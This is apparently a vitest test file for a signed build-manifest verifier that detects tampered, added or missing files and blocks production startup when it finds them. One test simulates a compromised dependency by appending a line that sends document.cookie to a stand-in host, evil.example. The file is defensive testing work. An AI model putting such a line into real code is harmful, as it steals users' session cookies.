import { generateKeyPairSync } from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { mustVerifyBeforeListening, prepareBuildManifest, signDevelopmentBuild } from '../platform/build-manifest/build-integrity.ts';
import { createBuildManifest, ManifestError, readSignedManifest, writeBuildManifest } from '../platform/build-manifest/build-manifest.ts';
import { loadBuildPublicKey } from '../platform/build-manifest/build-signing-key.ts';
import { differenceFingerprint, runFilePass } from './verifier-pass.ts';

/** A miniature project: our code, a test file, static files, migrations, one production and one dev dependency. */
function makeProject(): string {
  const root = fs.mkdtempSync(path.join(os.tmpdir(), 'oroshi-build-'));
  const write = (rel: string, text: string) => {
    fs.mkdirSync(path.dirname(path.join(root, rel)), { recursive: true });
    fs.writeFileSync(path.join(root, rel), text);
  };
  write('package.json', '{"name":"mini"}');
  write('package-lock.json', JSON.stringify({ lockfileVersion: 3, packages: { '': {}, 'node_modules/dep': {}, 'node_modules/devdep': { dev: true } } }));
  write('src/payment.service.ts', 'export const pay = () => "psp";\n');
  write('src/payment.service.test.ts', 'test file\n');
  write('src/verifier/verifier-pass.ts', 'export const watch = true;\n');
  write('static/js/postal-fill.js', 'console.log("fill");\n');
  write('db/migrations/0001_platform.sql', 'SELECT 1;\n');
  write('node_modules/dep/package.json', '{"name":"dep"}');
  write('node_modules/dep/lib/index.js', 'module.exports = 1;\n');
  write('node_modules/dep/README.md', 'docs are not loaded\n');
  write('node_modules/devdep/index.js', 'module.exports = 2;\n');
  return root;
}

let root: string;
const keys = generateKeyPairSync('ed25519');
const manifestPath = () => path.join(root, 'build-manifest.json');
const sign = () => writeBuildManifest(manifestPath(), createBuildManifest({ root, privateKey: keys.privateKey, appEnv: 'test' }));
const pass = () => runFilePass({ root, manifestPath: manifestPath(), publicKey: keys.publicKey });

beforeEach(() => {
  root = makeProject();
  sign();
});
afterEach(() => fs.rmSync(root, { recursive: true, force: true }));

describe('signed build manifest', () => {
  it('lists what the server runs or serves, and nothing else', () => {
    const manifest = readSignedManifest(manifestPath(), keys.publicKey);
    expect(Object.keys(manifest.files)).toEqual([
      'db/migrations/0001_platform.sql',
      'node_modules/dep/lib/index.js',
      'node_modules/dep/package.json',
      'package-lock.json',
      'package.json',
      'src/payment.service.ts',
      'src/verifier/verifier-pass.ts',
      'static/js/postal-fill.js',
    ]);
  });

  it('an unchanged tree passes with no differences', () => {
    const result = pass();
    expect(result.manifestOk).toBe(true);
    expect(result.check).toMatchObject({ filesChecked: 8, modified: [], added: [], missing: [] });
  });

  it('finds an edited, an added and a deleted file', () => {
    fs.appendFileSync(path.join(root, 'node_modules/dep/lib/index.js'), ';fetch("https://evil.example/?d="+document.cookie)');
    fs.writeFileSync(path.join(root, 'src/skimmer.ts'), 'export {}');
    fs.rmSync(path.join(root, 'static/js/postal-fill.js'));
    const result = pass();
    expect(result.check).toMatchObject({ modified: ['node_modules/dep/lib/index.js'], added: ['src/skimmer.ts'], missing: ['static/js/postal-fill.js'] });
    expect(result.verifierFilesTouched).toEqual([]);
  });

  it('names a change to the verifier’s own files separately', () => {
    fs.writeFileSync(path.join(root, 'src/verifier/verifier-pass.ts'), 'export const watch = false;\n');
    const result = pass();
    expect(result.check?.modified).toEqual(['src/verifier/verifier-pass.ts']);
    expect(result.verifierFilesTouched).toEqual(['src/verifier/verifier-pass.ts']);
  });

  it('the fingerprint is stable while the same files differ, and changes with the set', () => {
    fs.appendFileSync(path.join(root, 'src/payment.service.ts'), '//x');
    const a = differenceFingerprint(pass());
    expect(differenceFingerprint(pass())).toBe(a);
    fs.writeFileSync(path.join(root, 'src/other.ts'), '');
    expect(differenceFingerprint(pass())).not.toBe(a);
  });

  it('refuses a forged manifest: a hash edited to match a tampered file, or another key’s signature', () => {
    fs.appendFileSync(path.join(root, 'src/payment.service.ts'), '//tampered');
    const manifest = JSON.parse(fs.readFileSync(manifestPath(), 'utf8'));
    manifest.files['src/payment.service.ts'] = 'f'.repeat(64);
    fs.writeFileSync(manifestPath(), JSON.stringify(manifest));
    expect(() => readSignedManifest(manifestPath(), keys.publicKey)).toThrow(ManifestError);
    expect(pass()).toMatchObject({ manifestOk: false, check: null, manifestError: expect.stringContaining('signature') });

    const attacker = generateKeyPairSync('ed25519');
    writeBuildManifest(manifestPath(), createBuildManifest({ root, privateKey: attacker.privateKey, appEnv: 'test' }));
    expect(pass()).toMatchObject({ manifestOk: false, manifestError: expect.stringContaining('not the trusted') });
  });

  it('production refuses to start on a tampered file or a missing manifest; development rebuilds', () => {
    const pem = String(keys.publicKey.export({ format: 'pem', type: 'spki' }));
    const production = { APP_ENV: 'production' as const, BUILD_PUBLIC_KEY: pem, BUILD_MANIFEST_PATH: manifestPath(), dataDir: root };
    expect(prepareBuildManifest(production, undefined, root)).toMatchObject({ mode: 'verified', fileCount: 8 });
    fs.appendFileSync(path.join(root, 'node_modules/dep/lib/index.js'), '//x');
    expect(() => prepareBuildManifest(production, undefined, root)).toThrow(/1 file\(s\) differ.*modified node_modules\/dep\/lib\/index.js/);
    fs.rmSync(manifestPath());
    expect(() => prepareBuildManifest(production, undefined, root)).toThrow(/refusing to start: build manifest .* missing/);

    const dataDir = path.join(root, 'data');
    const dev = { APP_ENV: 'development' as const, dataDir };
    const rebuilt = prepareBuildManifest(dev, undefined, root);
    expect(rebuilt).toMatchObject({ mode: 'rebuilt', fileCount: 8, manifestPath: path.join(dataDir, 'build-manifest.json') });
    expect(fs.existsSync(path.join(dataDir, 'build-signing.key'))).toBe(true);
  });

  it('development signs after the port is open, reading files asynchronously into the same manifest; production verifies first', async () => {
    const dataDir = path.join(root, 'data');
    const dev = { APP_ENV: 'development' as const, dataDir };
    expect(mustVerifyBeforeListening(dev)).toBe(false);
    expect(mustVerifyBeforeListening({ ...dev, APP_ENV: 'production' as const })).toBe(true);
    const synchronous = prepareBuildManifest(dev, undefined, root);
    const filesThen = JSON.parse(fs.readFileSync(synchronous.manifestPath, 'utf8')).files;
    const signed = await signDevelopmentBuild(dev, undefined, root);
    expect(signed).toMatchObject({ mode: 'rebuilt', fileCount: 8, manifestPath: synchronous.manifestPath });
    expect(JSON.parse(fs.readFileSync(signed.manifestPath, 'utf8')).files).toEqual(filesThen);
    // The verifier holds the process to what was signed: an edit after that is a difference.
    fs.appendFileSync(path.join(root, 'src/payment.service.ts'), '// edited');
    const publicKey = loadBuildPublicKey(dev);
    const result = runFilePass({ root, manifestPath: signed.manifestPath, publicKey });
    expect(result.check).toMatchObject({ modified: ['src/payment.service.ts'], added: [], missing: [] });
  });
});
